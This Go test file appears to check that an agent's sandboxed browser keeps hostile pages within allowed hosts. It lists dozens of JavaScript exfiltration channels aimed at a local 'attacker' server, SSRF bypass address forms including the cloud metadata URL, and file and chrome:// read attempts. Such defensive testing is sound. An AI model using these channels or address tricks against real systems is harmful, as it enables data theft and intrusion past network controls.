package browser

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/scrollkeep/scrollkeep/agentshell/internal/process/proxy"
)

var hostile = flag.Bool("hostile", false, "play all hostile pages")

// ways are scripts by which a page has the browser send a request to U without leaving the page. A
// way with a minus does not work in a browser without a window, or without encryption, so that it
// has no control.
var ways = [][2]string{
	{"fetch", "fetch(U, {mode: 'no-cors'})"},
	{"fetch keepalive", "fetch(U, {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})"},
	{"XMLHttpRequest", "{ const x = new XMLHttpRequest(); x.open('GET', U); x.send() }"},
	{"beacon", "navigator.sendBeacon(U, 'secret')"},
	{"image", "new Image().src = U"},
	{"image srcset", "add('<img srcset=\"' + U + ' 1x\">')"},
	{"picture", "add('<picture><source srcset=\"' + U + '\"><img></picture>')"},
	{"input image", "add('<input type=image src=\"' + U + '\">')"},
	{"body background", "add('<table background=\"' + U + '\"><td>x</table>')"},
	{"script", "make('script', {src: U})"},
	{"module", "make('script', {type: 'module', src: U})"},
	{"import", "import(U).catch(() => {})"},
	{"stylesheet", "make('link', {rel: 'stylesheet', href: U})"},
	{"@import", "add('<style>@import \"' + U + '\";</style>')"},
	{"css background", "add('<div style=\"width:9px;height:9px;background:url(' + U + ')\">x</div>')"},
	{"css image-set", "add('<div style=\"width:9px;height:9px;background:image-set(url(' + U + ') 1x)\">x</div>')"},
	{"css mask", "add('<div style=\"width:9px;height:9px;mask:url(' + U + ')\">x</div>')"},
	{"css content", "add('<p style=\"content:url(' + U + ')\">x</p>')"},
	{"css list", "add('<ul style=\"list-style-image:url(' + U + ')\"><li>x</ul>')"},
	{"-css cursor", "add('<p style=\"cursor:url(' + U + '),auto\">x</p>')"},
	{"font", "add('<style>@font-face{font-family:' + N + ';src:url(' + U + ')}</style><p style=\"font-family:' + " +
		"N + '\">x')"},
	{"FontFace", "new FontFace('f', 'url(' + U + ')').load().catch(() => {})"},
	{"frame", "make('iframe', {src: U})"},
	{"srcdoc", "make('iframe', {srcdoc: '<img src=\"' + U + '\">'})"},
	{"blob frame", "make('iframe', {src: URL.createObjectURL(new Blob(['<img src=\"' + U + '\">'], {type: " +
		"'text/html'}))})"},
	{"data frame", "make('iframe', {src: 'data:text/html,<img src=\"' + U + '\">'})"},
	{"blank frame", "make('iframe', {}).contentWindow.fetch(U, {mode: 'no-cors'})"},
	{"object", "make('object', {data: U})"},
	{"embed", "make('embed', {src: U})"},
	{"video", "make('video', {src: U, preload: 'auto'})"},
	{"audio", "make('audio', {src: U, preload: 'auto'})"},
	{"poster", "make('video', {poster: U})"},
	{"track", "add('<video><track default src=\"' + U + '\"></video>').textTracks[0].mode = 'showing'"},
	{"preload", "make('link', {rel: 'preload', as: 'image', href: U})"},
	{"modulepreload", "make('link', {rel: 'modulepreload', href: U})"},
	{"prefetch", "make('link', {rel: 'prefetch', href: U})"},
	{"-icon", "make('link', {rel: 'icon', href: U})"},
	{"-manifest", "make('link', {rel: 'manifest', href: U})"},
	{"-dns-prefetch", "make('link', {rel: 'dns-prefetch', href: U})"},
	{"-preconnect", "make('link', {rel: 'preconnect', href: U})"},
	{"-prerender", "make('script', {type: 'speculationrules', textContent: JSON.stringify({prerender: [{urls: " +
		"[U]}]})})"},
	{"-speculation", "make('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: " +
		"[U]}]})})"},
	{"svg image", "add('<svg><image href=\"' + U + '\" width=9 height=9 /></svg>')"},
	{"-svg use", "add('<svg><use href=\"' + U + '#a\"/></svg>')"},
	{"svg filter", "add('<svg><filter id=f><feImage href=\"' + U + '\"/></filter><rect width=9 height=9 " +
		"filter=\"url(#f)\"/></svg>')"},
	{"EventSource", "new EventSource(U)"},
	{"WebSocket", "new WebSocket(U.replace('http', 'ws'))"},
	{"worker fetch", "worker('fetch(\"' + U + '\", {mode: \"no-cors\"})')"},
	{"worker script", "worker('importScripts(\"' + U + '\")')"},
	{"worker socket", "worker('new WebSocket(\"' + U.replace('http', 'ws') + '\")')"},
	{"shared worker", "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + U + '\", {mode: \"no-cors\"})'])))"},
	{"worklet", "CSS.paintWorklet ? CSS.paintWorklet.addModule(U).catch(() => {}) : fetch(U, {mode: 'no-cors'})"},
	{"audio worklet", "new AudioContext().audioWorklet?.addModule(U).catch(() => {})"},
	{"service worker", "navigator.serviceWorker.register('/worker.js?' + encodeURIComponent(U), {scope: '/' + N})"},
	{"cache", "caches.open('c').then(c => c.add(new Request(U, {mode: 'no-cors'}))).catch(() => {})"},
	{"background fetch", "fetch(new Request(U, {mode: 'no-cors', priority: 'low'}))"},
	{"-webtransport", "{ const w = new WebTransport(U.replace('http:', 'https:')); w.ready.catch(() => {}); " +
		"w.closed.catch(() => {}) }"},
	{"-stun", "peer('stun:' + U.split('/')[2])"},
	{"-turn udp", "peer('turn:' + U.split('/')[2] + '?transport=udp')"},
	{"-turn tcp", "peer('turn:' + U.split('/')[2] + '?transport=tcp')"},
	{"-csp report", "make('iframe', {src: '/csp?' + encodeURIComponent(U)})"},
	{"link header", "make('iframe', {src: '/link?' + encodeURIComponent(U)})"},
	{"redirect of fetch", "fetch('/go?' + encodeURIComponent(U), {mode: 'no-cors'})"},
	{"redirect of image", "new Image().src = '/go?' + encodeURIComponent(U)"},
	{"redirect of frame", "make('iframe', {src: '/go?' + encodeURIComponent(U)})"},
	{"refresh of frame", "make('iframe', {src: '/refresh?' + encodeURIComponent(U)})"},
	{"form in frame", "make('iframe', {srcdoc: '<form method=post action=\"' + U + " +
		"'\"></form><script>document.forms[0].submit()<\\/script>'})"},
	{"ping", "{ const a = make('a', {href: '#', ping: U, textContent: 'a'}); a.click() }"},
	{"XSLT", "make('iframe', {src: '/xml?' + encodeURIComponent(U)})"},
	{"base", "make('iframe', {srcdoc: '<base href=\"' + U + '\"><img src=\"?b\">'})"},
	{"javascript frame", "make('iframe', {src: 'javascript:fetch(\"' + U + '\", {mode: \"no-cors\"})'})"},
	{"sandboxed frame", "make('iframe', {sandbox: 'allow-scripts', srcdoc: '<script>fetch(\"' + U + '\", {mode: " +
		"\"no-cors\"})<\\/script>'})"},
	{"fetch of a blob", "fetch(URL.createObjectURL(new Blob([U]))).then(r => r.text()).then(u => fetch(u, {mode: " +
		"'no-cors'}))"},
	{"-notification", "{ try { new Notification('n', {icon: U, image: U}) } catch { } }"},
}

// leaves are scripts by which a page leaves itself, or opens another one.
var leaves = [][2]string{
	{"location", "location = U"}, {"replace", "location.replace(U)"}, {"assign", "location.assign(U)"},
	{"link", "make('a', {href: U, textContent: 'a'}).click()"},
	{"link in a new window", "make('a', {href: U, target: '_blank', textContent: 'a'}).click()"},
	{"open", "window.open(U)"}, {"open blank", "window.open('about:blank').location = U"},
	{"open and write", "window.open().document.write('<img src=\"' + U + '\">')"},
	{"form", "add('<form action=\"' + U + '\"></form>').submit()"},
	{"form post", "add('<form method=post action=\"' + U + '\"><input name=a value=secret></form>').submit()"},
	{"form in a new window", "add('<form target=_blank action=\"' + U + '\"></form>').submit()"},
	{"refresh", "add('<meta http-equiv=refresh content=\"0;url=' + U + '\">')"},
	{"301", "location = '/go301?' + encodeURIComponent(U)"}, {"302", "location = '/go302?' + encodeURIComponent(U)"},
	{"303", "location = '/go303?' + encodeURIComponent(U)"}, {"307", "location = '/go307?' + encodeURIComponent(U)"},
	{"308", "location = '/go308?' + encodeURIComponent(U)"},
	{"two redirects", "location = '/go?' + encodeURIComponent('/go?' + encodeURIComponent(U))"},
	{"refresh header", "location = '/refresh?' + encodeURIComponent(U)"},
	{"top from a frame", "make('iframe', {srcdoc: '<script>top.location = \"' + U + '\"<\\/script>'})"},
	{"download", "make('a', {href: U, download: 'x', textContent: 'a'}).click()"},
	{"unload beacon", "addEventListener('pagehide', () => navigator.sendBeacon(U, 'x')); location = '/empty'"},
}

// helpersOfPages are what the scripts of hostile pages use.
const helpersOfPages = `<!doctype html><body><script>
const make = (kind, props) => {
  const e = document.createElement(kind); Object.assign(e, props); document.body.append(e); return e };
const add = html => {
  const t = document.createElement('div'); t.innerHTML = html; document.body.append(t); return t.firstElementChild };
const worker = code => new Worker(URL.createObjectURL(new Blob([code])));
const peer = url => { const p = new RTCPeerConnection({iceServers: [{urls: url, username: 'u', credential: 'c'}]});
  p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) };
</script>`

// attacker is a server on this machine to which nothing may come.
type attacker struct {
	port string

	mu   sync.Mutex
	hits []string
}

func (a *attacker) note(what string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.hits = append(a.hits, what)
}

// take returns what came, and forgets it.
func (a *attacker) take() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	hits := a.hits
	a.hits = nil
	return hits
}

func newAttacker(t *testing.T) *attacker {
	t.Helper()
	a := &attacker{}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	_, a.port, _ = net.SplitHostPort(l.Addr().String())
	serve := func(l net.Listener) {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			a.note("tcp from " + c.RemoteAddr().String())
			_ = c.Close()
		}
	}
	go serve(l)
	t.Cleanup(func() { _ = l.Close() })
	if six, err := net.Listen("tcp", "[::1]:"+a.port); err == nil {
		go serve(six)
		t.Cleanup(func() { _ = six.Close() })
	}
	u, err := net.ListenPacket("udp", "127.0.0.1:"+a.port)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = u.Close() })
	go func() {
		buffer := make([]byte, 2000)
		for {
			n, from, err := u.ReadFrom(buffer)
			if err != nil {
				return
			}
			a.note(fmt.Sprintf("%d bytes of udp from %v", n, from))
		}
	}()
	return a
}

// trap is a site with hostile pages, and a browser that is not confined: only the way out is.
type trap struct {
	*attacker
	t       *testing.T
	service *Service
	site    string
	dir     string
	hosts   *proxy.Hosts
	late    <-chan struct{} // closed when nothing is waited for any more

	mu   sync.Mutex
	seen map[string]int // requests for /hit/ by name
}

func newTrap(t *testing.T) *trap {
	t.Helper()
	browserFor(t)
	w := &trap{attacker: newAttacker(t), t: t, dir: t.TempDir(), hosts: new(proxy.Hosts), seen: map[string]int{}}
	ctx, cancel := context.WithTimeout(context.Background(), bound)
	t.Cleanup(cancel)
	w.late = ctx.Done()
	server := httptest.NewServer(http.HandlerFunc(w.serve))
	t.Cleanup(server.Close)
	w.site = server.URL
	host, _ := proxy.ParseHost(strings.TrimPrefix(w.site, "http://"))
	w.hosts.Add(true, host)
	w.service = w.newService(false)
	return w
}

// newService returns a browser that is not confined. With keepWindows it does not close the windows
// that pages open.
func (w *trap) newService(keepWindows bool) *Service {
	c := configIn(w.t, w.dir, w.hosts)
	c.Cell, c.keepWindows = nil, keepWindows
	s := NewService(c)
	w.t.Cleanup(s.Close)
	return s
}

// serve answers as a hostile site.
func (w *trap) serve(r http.ResponseWriter, q *http.Request) {
	to := q.URL.RawQuery
	if u, err := url.QueryUnescape(to); err == nil {
		to = u
	}
	r.Header().Set("Content-Type", "text/html; charset=utf-8")
	switch path := q.URL.Path; {
	case strings.HasPrefix(path, "/hit/"):
		w.mu.Lock()
		w.seen[strings.TrimPrefix(path, "/hit/")]++
		w.mu.Unlock()
		r.Header().Set("Access-Control-Allow-Origin", "*")
		r.WriteHeader(http.StatusNoContent)
	case strings.HasPrefix(path, "/go"):
		code := http.StatusFound
		_, _ = fmt.Sscanf(path, "/go%d", &code)
		http.Redirect(r, q, to, code)
	case path == "/refresh":
		r.Header().Set("Refresh", "0; url="+to)
	case path == "/csp":
		r.Header().Set("Content-Security-Policy", "img-src 'none'; report-uri "+to)
		_, _ = r.Write([]byte("<img src=/x>"))
	case path == "/link":
		r.Header().Set("Link", "<"+to+">; rel=preload; as=image")
	case path == "/xml":
		r.Header().Set("Content-Type", "text/xml")
		_, _ = fmt.Fprintf(r, `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="%s"?><a/>`, to)
	case path == "/worker.js":
		r.Header().Set("Content-Type", "text/javascript")
		r.Header().Set("Service-Worker-Allowed", "/")
		_, _ = fmt.Fprintf(r, "fetch(%q, {mode: 'no-cors'})", to)
	case path == "/loop":
		http.Redirect(r, q, "/loop", http.StatusFound)
	case path == "/never":
		for q.Context().Err() == nil {
			if _, err := r.Write([]byte(strings.Repeat("x", 1<<16))); err != nil {
				return
			}
		}
	case path == "/download":
		r.Header().Set("Content-Disposition", "attachment; filename=evil.sh")
		_, _ = r.Write([]byte("#!/bin/sh\n"))
	default:
		_, _ = r.Write([]byte(helpersOfPages))
	}
}

// count returns how often a name of /hit/ was asked for.
func (w *trap) count(name string) int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.seen[name]
}

// hit returns an address of the site for a name.
func (w *trap) hit(name string) string { return w.site + "/hit/" + nameInPath(name) }

func nameInPath(name string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' {
			return r
		}
		return '_'
	}, name)
}

// open opens a tab at a page of the site.
func (w *trap) open(path string) *Tab {
	w.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), bound)
	defer cancel()
	tab, _, err := w.service.Open(ctx, Open{Name: "trap", URL: w.site + path, Dialogs: "dismiss"})
	if err != nil {
		w.t.Fatal(err)
	}
	return tab
}

// script returns a script that sends by a way to an address.
func script(way [2]string, address string) string {
	u, _ := json.Marshal(address)
	return fmt.Sprintf("{ const U = %s, N = 'x%s'; try { %s } catch (e) { console.log(e) } }\n", u,
		nameInPath(way[0]), way[1])
}

// await waits until a condition holds.
func (w *trap) await(what string, holds func() bool) {
	w.t.Helper()
	look := time.NewTicker(10 * time.Millisecond)
	defer look.Stop()
	for !holds() {
		select {
		case <-look.C:
		case <-w.late:
			w.t.Errorf("%s did not come", what)
			return
		}
	}
}

// What pages and code of others try stays within the hosts that are allowed, writes no file, and
// leaves a browser that can be used. With -hostile all of it is played.
func TestHostilePages(t *testing.T) {
	w := newTrap(t)
	if _, _, err := w.service.Open(t.Context(), Open{Name: "open to the end"}); err != nil {
		t.Fatal(err)
	}
	for _, part := range []struct {
		name  string
		play  func(*testing.T)
		heavy bool
	}{
		{"reaches", w.aPageReachesAllowedHostsOnly, false}, {"leads", w.aPageLeadsToAllowedHostsOnly, false},
		{"windows", w.aWindowLeadsToAllowedHostsOnly, true},
		{"private", w.privateAddressesAreRefused, false}, {"files", w.noFileIsRead, false},
		{"odd", w.oddPages, false}, {"downloads", w.nothingIsDownloaded, false}, {"hang", w.pagesThatHang, false},
		{"memory", w.pagesThatTakeAll, true},
	} {
		if part.heavy && !*hostile {
			continue
		}
		t.Run(part.name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), bound)
			defer cancel()
			w.t, w.late = t, ctx.Done()
			part.play(t)
			w.service.CloseTab(context.Background(), "trap")
			if hits := w.take(); len(hits) > 0 {
				t.Errorf("the attacker was reached: %v", hits)
			}
		})
	}
}

// aPageReachesAllowedHostsOnly plays all ways by which a page sends: none gets to a host that is
// not allowed, and the same ways get to one that is.
func (w *trap) aPageReachesAllowedHostsOnly(t *testing.T) {
	tab := w.open("/")
	evil, good := "", ""
	var names []string
	for _, way := range ways {
		evil += script(way, "http://127.0.0.1:"+w.port+"/"+nameInPath(way[0]))
		if !strings.HasPrefix(way[0], "-") {
			good += script(way, w.hit(way[0]))
			names = append(names, way[0])
		}
	}
	run(t, tab, nil, "await tab.evaluate("+quoteJS(evil)+")")
	run(t, tab, nil, "await tab.evaluate("+quoteJS(good)+")")
	for _, name := range names {
		w.await("the control "+name, func() bool { return w.count(nameInPath(name)) > 0 })
	}
	refused, _ := w.service.Refusals()
	if want := (proxy.Refusal{Host: proxy.Host{Name: "127.0.0.1", Port: portOf(w.port)}}); !slices.Contains(refused,
		want) {
		t.Errorf("the host is not named: %v", refused)
	}
	t.Logf("%d ways, %d controls", len(ways), len(names))
}

// aPageLeadsToAllowedHostsOnly plays the ways by which a page leads the tab elsewhere.
func (w *trap) aPageLeadsToAllowedHostsOnly(t *testing.T) {
	list := leaves
	if !*hostile {
		list = [][2]string{leaves[0], leaves[13]}
	}
	for _, way := range list {
		if opensWindow(way) {
			w.lead(way, w.evil())
			w.service.CloseTab(context.Background(), "trap")
			continue
		}
		w.leadsToAllowedHostsOnly(way)
	}
}

// aWindowLeadsToAllowedHostsOnly plays the ways by which a page opens a window, in a browser that
// does not close it: one that is closed at once may or may not have sent its request.
func (w *trap) aWindowLeadsToAllowedHostsOnly(*testing.T) {
	closing := w.service
	w.service = w.newService(true)
	defer func() { w.service = closing }()
	for _, way := range leaves {
		if opensWindow(way) {
			w.leadsToAllowedHostsOnly(way)
		}
	}
}

// opensWindow reports whether a way opens a window.
func opensWindow(way [2]string) bool {
	return strings.HasPrefix(way[0], "open") || strings.Contains(way[0], "new window")
}

// evil returns an address of the attacker.
func (w *trap) evil() string { return "http://127.0.0.1:" + w.port + "/" }

// lead has a page lead to an address.
func (w *trap) lead(way [2]string, address string) {
	w.t.Helper()
	tab := w.open("/")
	r := run(w.t, tab, nil, "return await tab.evaluate("+quoteJS(script(way, address))+").catch(e => e.message)")
	if r.Error != "" {
		w.t.Errorf("%s: %+v", way[0], r)
	}
}

// leadsToAllowedHostsOnly plays a way: it is refused the attacker, and reaches the site.
func (w *trap) leadsToAllowedHostsOnly(way [2]string) {
	w.t.Helper()
	w.lead(way, w.evil())
	w.await("the refusal of "+way[0], func() bool {
		refused, _ := w.service.unreached.Look()
		return len(refused) > 0
	})
	w.service.CloseTab(context.Background(), "trap")
	w.service.Refusals()
	w.lead(way, w.hit(way[0]))
	w.await("the control "+way[0], func() bool { return w.count(nameInPath(way[0])) > 0 })
	w.service.CloseTab(context.Background(), "trap")
}

// privateAddressesAreRefused plays the forms of addresses of this machine and of private networks,
// also where a name was allowed that leads there.
func (w *trap) privateAddressesAreRefused(t *testing.T) {
	tab := w.open("/")
	list := []string{"http://127.0.0.1:P/", "http://localhost:P/", "http://[::1]:P/", "http://0.0.0.0:P/",
		"http://127.1:P/", "http://2130706433:P/", "http://0x7f000001:P/", "http://0177.0.0.1:P/",
		"http://[::ffff:127.0.0.1]:P/", "http://localhost.:P/", "http://user@127.0.0.1:P/",
		"http://\u2460\u2461\u2466.0.0.1:P/",
		"http://127.0.0.1:P./", "https://127.0.0.1:P/", "http://[::]:P/", "http://sub.localhost:P/",
		"http://169.254.169.254/latest/meta-data/", "http://10.0.0.1:P/", "http://192.168.0.1:P/",
		"http://[fe80::1]:P/",
		"http://[64:ff9b::7f00:1]:P/", "http://0:P/"}
	if !*hostile {
		list = list[:4]
	}
	for _, address := range list {
		address = strings.ReplaceAll(address, "P", w.port)
		r := run(t, tab, nil, "await tab.goto("+quoteJS(address)+")")
		if r.Error == "" {
			t.Errorf("%s is opened", address)
		}
		run(t, tab, nil, "await tab.evaluate("+quoteJS("fetch("+quoteJS(address)+", {mode: 'no-cors'}).catch(() "+
			"=> {})")+")")
	}
	// A yes for the host is none for a private address behind its name.
	for _, name := range []string{"127.0.0.1", "localhost", "::1"} {
		w.hosts.Add(false, proxy.Host{Name: name, Port: portOf(w.port)})
		address := "http://" + net.JoinHostPort(name, w.port) + "/"
		r := run(t, tab, nil, "await tab.goto("+quoteJS(address)+")")
		if !strings.Contains(r.Error, "has an address of a private network") {
			t.Errorf("%s: %q", address, r.Error)
		}
		w.open("/")
		run(t, tab, nil, "await tab.evaluate("+quoteJS("new Image().src = "+quoteJS(address)+"; new WebSocket("+
			quoteJS(strings.Replace(address, "http", "ws", 1))+"); fetch("+quoteJS(address)+", {mode: "+
			"'no-cors'}).catch(() => {})")+")")
	}
}

// noFileIsRead plays addresses of files and of the browser itself, in pages and in code.
func (w *trap) noFileIsRead(t *testing.T) {
	secret := w.dir + "/secret.html"
	if err := os.WriteFile(secret, []byte("<title>the secret</title>"), 0o600); err != nil {
		t.Fatal(err)
	}
	list := []string{"file://" + secret, "view-source:file://" + secret, "filesystem:file://" + secret,
		"FILE:" + secret,
		"chrome://version", "chrome://settings", "chrome-untrusted://x", "devtools://devtools/bundled/inspector.html",
		"chrome-extension://a/b", "about:version", "about:blank#", "data:text/html,x", "javascript:1",
		"ftp://127.0.0.1/",
		"blob:null/1", "ws://127.0.0.1:1/", "intent://x", "mailto:a@b"}
	if !*hostile {
		list = []string{list[0], list[4]}
	}
	for _, address := range list {
		tab := w.open("/")
		if r := run(t, tab, nil, "await tab.goto("+quoteJS(address)+")"); r.Error == "" {
			t.Errorf("%s is opened", address)
		}
		code := "await tab.evaluate(u => { location = u; const f = document.createElement('iframe'); f.src = u; " +
			"document.body.append(f); window.open(u); const a = document.createElement('a'); a.href = u; " +
			"a.click() }, " +
			quoteJS(address) + ").catch(() => {}); await wait(50); return [tab.url(), await page.content(), " +
			"await tab.evaluate(u => fetch(u).then(r => r.text()).catch(() => 'no'), " + quoteJS(address) +
			").catch(() => 'no')].join('\\n')"
		if r := run(t, tab, nil, code); strings.Contains(r.Value, "the secret") || strings.Contains(r.Value,
			"chrome-error") {
			t.Errorf("%s: %q", address, r.Value)
		}
		w.service.CloseTab(context.Background(), "trap")
	}
	for _, code := range []string{"return await fetch('file://" + secret + "').then(r => r.text())",
		"return await fetch('" + w.site + "/hit/code').then(r => r.text())", "return await import('" + w.site +
			"/hit/code')",
		"importScripts('" + w.site + "/hit/code')", "await new Promise((y, n) => { const s = new WebSocket('" +
			strings.Replace(w.site, "http", "ws", 1) + "/hit/code'); s.onopen = y; s.onerror = () => n(new " +
			"Error('no')) })",
		"await new Promise((y, n) => { const i = new Image(); i.onload = y; i.onerror = () => n(new " +
			"Error('no')); i.src = '" +
			w.site + "/hit/code' })"} {
		if r := run(t, w.open("/"), nil, code); r.Error == "" {
			t.Errorf("%s gives %q", code, r.Value)
		}
	}
	if n := w.count("code"); n > 0 {
		t.Errorf("code reached the network %d times", n)
	}
}

func quoteJS(text string) string {
	data, _ := json.Marshal(text)
	return string(data)
}

func portOf(text string) uint16 {
	var n uint16
	_, _ = fmt.Sscan(text, &n)
	return n
}
